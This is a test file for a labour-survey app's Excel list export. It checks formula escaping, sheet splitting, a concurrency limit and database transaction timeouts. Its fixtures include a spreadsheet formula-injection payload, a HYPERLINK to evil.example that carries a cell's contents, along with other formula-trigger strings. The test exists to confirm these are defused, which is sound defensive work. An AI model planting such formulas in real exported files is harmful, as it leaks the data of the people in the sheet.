import ExcelJS from 'exceljs';
import { as, createAccount, createTestApp, login, TestAccount, TestApp } from './helpers';
import { householdData, laborerData, op, Op, sync, uuid } from './survey-fixtures';
import { contextFor } from '../src/access/request-context';
import { safeText } from '../src/modules/lists/lists.export';

/**
 * What a list export must hold to: text that a spreadsheet would run as a
 * formula written as text with a leading apostrophe, lists longer than a
 * sheet split over sheets, at most EXPORT_MAX_CONCURRENT exports at once per
 * replica, and timeouts on the export's transaction so a download that stalls
 * can't keep a database connection. Its people live in 福新镇's 种典村, which
 * no other test uses.
 */
const TOWN = '451425105'; // 福新镇
const VILLAGE = '451425105202'; // 种典村委会
const PEOPLE = 7;

let t: TestApp;
let staff: TestAccount;
let token: string;

beforeAll(async () => {
  // The idle timeout must outlast a starved process's pause between two chunks of a normal export (two test files on two busy cores).
  t = await createTestApp({ EXPORT_MAX_CONCURRENT: '1', EXPORT_STATEMENT_TIMEOUT_MS: '4321', EXPORT_IDLE_IN_TRANSACTION_TIMEOUT_MS: '12000' });
  staff = await createAccount(t.ds, 'staff', TOWN);
  token = (await login(t.app, staff.username)).accessToken;
  const officer = (await login(t.app, (await createAccount(t.ds, 'officer', VILLAGE)).username)).accessToken;
  const hid = uuid();
  const ops: Op[] = [op('household.create', hid, householdData(VILLAGE, { headName: '黄德明' }))];
  const over: Record<string, unknown>[] = [
    // What a worker or an officer might type that a spreadsheet would run.
    { name: '黄德明', employmentStatus: 'local', employer: '=HYPERLINK("http://evil.example/?"&B2,"点我")', workPlace: '天等镇', monthlyIncome: 2600, relationToHead: 'self' },
    { name: '黄秀英', employmentStatus: 'local', workPlace: '+86 天等镇', monthlyIncome: 2400 },
    { name: '黄小军', skills: ['@SUM(1,2)', '砌砖'] },
    { name: '黄小梅', preferredPlaces: ['-2+3', '南宁'] },
    { name: '黄大勇', employmentStatus: 'local', employer: '\t=1+1', workPlace: '县城', monthlyIncome: 3000 },
    { name: '黄二勇' },
    { name: '黄三勇' },
  ];
  for (const o of over) ops.push(op('laborer.create', uuid(), laborerData(hid, o)));
  const results = await sync(t.app, officer, 'dev-export', ops);
  expect(results.filter((r) => r.status !== 'applied')).toEqual([]);
});
afterAll(() => t.close());

const url = `/api/v1/lists/all/export?regionCode=${VILLAGE}&sort=name`;
const exportNow = () => as(t.app, token)({ url });
const ctx = () => contextFor({ accountId: staff.id, role: staff.role, regionCode: staff.regionCode, sessionId: uuid() }, '127.0.0.1', uuid());

async function sheetsOf(buffer: Buffer): Promise<{ name: string; rows: ExcelJS.Row[] }[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  return wb.worksheets.map((ws) => {
    const rows: ExcelJS.Row[] = [];
    ws.eachRow((row) => rows.push(row));
    return { name: ws.name, rows };
  });
}
const valuesOf = (row: ExcelJS.Row) => (row.values as unknown[]).slice(1);

async function drain(stream: NodeJS.ReadableStream): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const part of stream) parts.push(part as Buffer);
  return Buffer.concat(parts);
}

/** The backend an export runs on (its transaction names itself after the request). */
const exportBackends = async (requestId: string) =>
  (await t.ds.query('SELECT pid, state FROM pg_stat_activity WHERE application_name = $1', [`list-export ${requestId}`])) as { pid: number; state: string }[];

async function until(what: string, done: () => Promise<boolean> | boolean): Promise<void> {
  const deadline = Date.now() + 60_000;
  while (!(await done())) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 25));
  }
}

describe('cells a spreadsheet would run as formulas', () => {
  it('are text with a leading apostrophe, read back from the exported file', async () => {
    const res = await exportNow();
    expect(res.statusCode).toBe(200);
    const [{ rows }] = await sheetsOf(res.rawPayload);
    const header = valuesOf(rows[0]) as string[];
    const cell = (name: string, column: string) => rows.find((r) => r.getCell(2).value === name)!.getCell(header.indexOf(column) + 1);
    const expected: Array<[string, string, string]> = [
      ['黄德明', '就业单位/地点', `'=HYPERLINK("http://evil.example/?"&B2,"点我") / 天等镇`],
      ['黄秀英', '就业单位/地点', `'+86 天等镇`],
      ['黄小军', '技能特长', `'@SUM(1,2)、砌砖`],
      ['黄小梅', '意向城市/地点', `'-2+3、南宁`],
      ['黄大勇', '就业单位/地点', `'\t=1+1 / 县城`],
    ];
    for (const [name, column, text] of expected) {
      const c = cell(name, column);
      expect(c.type).toBe(ExcelJS.ValueType.String);
      expect(c.value).toBe(text);
    }
    // Not one formula anywhere in the file.
    for (const row of rows) row.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula));
    // Text that merely contains these characters is left alone.
    expect(cell('黄德明', '更新日期').value).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    expect(['\r=1', '=1', '+1', '-1', '@x', '\tx'].map(safeText)).toEqual(["'\r=1", "'=1", "'+1", "'-1", "'@x", "'\tx"]);
    expect(['1-2', 'a=b', '黄@家'].map(safeText)).toEqual(['1-2', 'a=b', '黄@家']);
  });
});

describe('a list longer than a sheet', () => {
  it('goes on over further sheets, each with the header, 序号 continuing', async () => {
    const svc = t.app.listsService;
    const whole = await sheetsOf((await exportNow()).rawPayload);
    expect(whole.map((s) => s.rows.length)).toEqual([PEOPLE + 1]);
    svc.exportRowsPerSheet = 3;
    try {
      const res = await exportNow();
      expect(res.headers['x-row-count']).toBe(String(PEOPLE));
      const split = await sheetsOf(res.rawPayload);
      expect(split.map((s) => s.name)).toEqual(['劳动力实名清单', '劳动力实名清单(2)', '劳动力实名清单(3)']);
      expect(split.map((s) => s.rows.length)).toEqual([4, 4, 2]);
      for (const s of split) expect(valuesOf(s.rows[0])).toEqual(valuesOf(whole[0].rows[0]));
      // The same rows in the same order as on one sheet.
      expect(split.flatMap((s) => s.rows.slice(1).map(valuesOf))).toEqual(whole[0].rows.slice(1).map(valuesOf));
      expect(split.flatMap((s) => s.rows.slice(1).map((r) => r.getCell(1).value))).toEqual([1, 2, 3, 4, 5, 6, 7]);
    } finally {
      svc.exportRowsPerSheet = 1_048_575;
    }
  });
});

describe('exports at once', () => {
  it('past EXPORT_MAX_CONCURRENT a replica refuses with 503 naming the limit, and takes exports again once one ends', async () => {
    const svc = t.app.listsService;
    Object.assign(svc, { exportChunkSize: 2, exportBacklogBytes: 1 });
    try {
      // An export whose client has not read yet holds its slot (and its connection).
      const first = await svc.export(ctx(), 'all', { regionCode: VILLAGE });
      const refused = await exportNow();
      expect(refused.statusCode).toBe(503);
      expect(refused.headers['retry-after']).toBe('30');
      expect(refused.json().error).toEqual({ code: 'SERVICE_UNAVAILABLE', message: '正在导出的清单已达上限（每台服务器同时最多 1 个），请稍后再试' });
      // Refused before anything: no audit event of an export that did not happen.
      expect(await t.ds.query('SELECT 1 FROM audit_events WHERE request_id = $1', [refused.headers['x-request-id']])).toEqual([]);

      const file = await sheetsOf(await drain(first.stream));
      expect(file[0].rows).toHaveLength(PEOPLE + 1);
      let next = 0;
      await until('the slot to be free', async () => (next = (await exportNow()).statusCode) !== 503);
      expect(next).toBe(200);
    } finally {
      Object.assign(svc, { exportChunkSize: 2000, exportBacklogBytes: 1 << 20 });
    }
  });
});

describe("an export's transaction", () => {
  it('runs read only, in one snapshot, with statement_timeout and idle_in_transaction_session_timeout set', async () => {
    const svc = t.app.listsService;
    let seen: Record<string, string> | null = null;
    svc.onExportTransaction = async (runner) => {
      [seen] = await runner.query(
        `SELECT current_setting('statement_timeout') AS statement, current_setting('idle_in_transaction_session_timeout') AS idle,
                current_setting('transaction_read_only') AS read_only, current_setting('transaction_isolation') AS isolation`,
      );
    };
    try {
      expect((await exportNow()).statusCode).toBe(200);
    } finally {
      svc.onExportTransaction = null;
    }
    expect(seen).toEqual({ statement: '4321ms', idle: '12s', read_only: 'on', isolation: 'repeatable read' });
  });

  it('is ended by PostgreSQL when a client stops reading for longer than the idle timeout, and the export with it', async () => {
    const svc = t.app.listsService;
    // Only the database's timeout can end this one: the export's own stall limit is far away.
    Object.assign(svc, { exportChunkSize: 2, exportBacklogBytes: 1, exportStallMs: 10 * 60_000 });
    const c = ctx();
    try {
      const stalled = await svc.export(c, 'all', { regionCode: VILLAGE });
      expect(await exportBackends(c.requestId)).toHaveLength(1);
      // Nobody reads: the transaction sits idle until PostgreSQL ends the session.
      await until('PostgreSQL to end the idle export', async () => (await exportBackends(c.requestId)).length === 0);
      await until('the export to end', () => stalled.stream.destroyed);
      await expect(drain(stalled.stream)).rejects.toThrow();
      // The replica takes exports again.
      let next = 0;
      await until('the slot to be free', async () => (next = (await exportNow()).statusCode) !== 503);
      expect(next).toBe(200);
    } finally {
      Object.assign(svc, { exportChunkSize: 2000, exportBacklogBytes: 1 << 20, exportStallMs: 60_000 });
    }
  });
});
